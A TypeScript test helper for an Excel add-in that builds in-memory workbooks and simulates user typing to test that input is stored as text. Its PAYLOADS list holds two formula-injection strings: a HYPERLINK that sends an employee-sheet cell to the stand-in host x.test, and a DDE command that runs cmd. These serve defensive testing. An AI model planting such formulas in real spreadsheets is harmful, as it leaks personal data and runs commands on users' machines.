/** Shared set-up of the ownership tests: workbooks in the in-memory Excel, typing as a user does. */
import type { Criterion } from "../../src/domain/priorities";
import { fillExample } from "../../src/excel/exampleData";
import { Book, createFakeExcel } from "../../src/fake-excel";
import type { FakeExcel } from "../../src/fake-excel";
import { TEXT_INPUTS } from "../../src/selftest/checks";
import { exampleData } from "../../src/workbook/example";

export const OPTS = { lang: "nl" as const, year: 2026 };
export const SMALL = () => exampleData({ employees: 6, gapRows: 12, year: 2026 });

export async function empty(evaluate = false): Promise<FakeExcel> {
  const fake = createFakeExcel(new Book(evaluate));
  fake.book.addSheet("Blad1");
  return fake;
}

/** The small example filled once per test file; without the formula engine each call gets a copy. */
let template: Promise<Book> | null = null;

export async function filled(evaluate = false): Promise<FakeExcel> {
  if (!evaluate) {
    template ??= (async () => {
      const fake = await empty(false);
      await fake.Excel.run((ctx) => fillExample(ctx as never, SMALL(), OPTS));
      return fake.book;
    })();
    return createFakeExcel((await template).copy());
  }
  const fake = await empty(evaluate);
  await fake.Excel.run((ctx) => fillExample(ctx as never, SMALL(), OPTS));
  fake.resetMetrics();
  return fake;
}

/** Types into a cell as a user does after undoing Excel's calculated-column fill (no AutoCorrect). */
export function type(fake: FakeExcel, sheet: string, address: string, value: unknown) {
  const s = fake.book.findSheet(sheet)!;
  const m = /^([A-Z]+)(\d+)$/.exec(address)!;
  let col = 0;
  for (const ch of m[1]) col = col * 26 + ch.charCodeAt(0) - 64;
  fake.book.writeContents(s, { row: Number(m[2]) - 1, col: col - 1, rows: 1, cols: 1 }, [[value]]);
}

export const cell = (fake: FakeExcel, sheet: string, row: number, col: number) =>
  fake.book.formula(fake.book.findSheet(sheet)!, row, col);

/** Formula-like and type-changing text a user may type; every path must keep it exactly as text. */
export const PAYLOADS = [
  '=HYPERLINK("http://x.test/?d="&Medewerkers!B4,"klik")',
  "=cmd|' /C calc'!A0",
  ...TEXT_INPUTS,
];

export const WEIGHTS: Record<Criterion, number> = {
  investment: 0.3,
  urgency: 0.25,
  success: 0.15,
  equity: 0.1,
  feasibility: 0.1,
  efficiency: 0.05,
  strategic: 0.05,
};
